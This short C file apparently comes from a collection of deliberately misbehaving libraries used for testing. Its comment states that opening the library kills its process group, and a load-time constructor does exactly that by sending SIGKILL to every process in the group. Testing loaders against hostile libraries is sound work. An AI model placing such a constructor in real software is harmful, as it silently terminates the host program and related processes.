/* Opening the library kills its whole process group. */
#include "zoo.h"
__attribute__((constructor)) static void begin(void) { kill(0, SIGKILL); }
